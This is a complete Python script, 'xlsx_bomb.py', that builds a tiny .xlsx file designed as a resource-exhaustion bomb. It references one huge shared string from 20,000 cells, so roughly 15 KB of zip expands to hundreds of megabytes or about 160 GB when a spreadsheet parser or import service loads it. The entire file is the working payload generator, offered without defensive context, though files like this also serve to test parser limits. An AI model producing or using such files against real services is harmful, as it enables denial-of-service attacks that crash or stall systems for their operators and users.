#!/usr/bin/env python3
"""xlsx_bomb.py FILE sst|many: a small .xlsx whose cells would cost far more
than the file: sst, one shared string of 8 MB named by 20,000 cells (15 KB
of zip, 160 GB of copies); many, a 30,000-character shared string (under
Excel's limit) named by 20,000 cells (15 KB of zip, 600 MB of copies)."""
import sys
import zipfile

W = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD = '<row r="1"><c r="A1" t="inlineStr"><is><t>id_number</t></is></c></row>'
if sys.argv[2] == "sst":
    rows = HEAD + "".join('<row r="%d">%s</row>' % (r, '<c t="s"><v>0</v></c>' * 10)
                          for r in range(2, 2002))
    sst = '<sst %s><si><t>%s</t></si></sst>' % (W, "A" * (8 << 20))
else:
    rows = HEAD + "".join('<row r="%d">%s</row>' % (r, '<c t="s"><v>0</v></c>' * 10)
                          for r in range(2, 2002))
    sst = '<sst %s><si><t>%s</t></si></sst>' % (W, "A" * 30000)
z = zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED)
z.writestr("xl/workbook.xml", '<workbook %s xmlns:r="http://schemas.openxmlformats.org/'
           'officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
           '</sheets></workbook>' % W)
z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/'
           'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
           'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
z.writestr("xl/sharedStrings.xml", sst)
z.writestr("xl/worksheets/sheet1.xml", '<worksheet %s><sheetData>%s</sheetData></worksheet>' % (W, rows))
z.close()
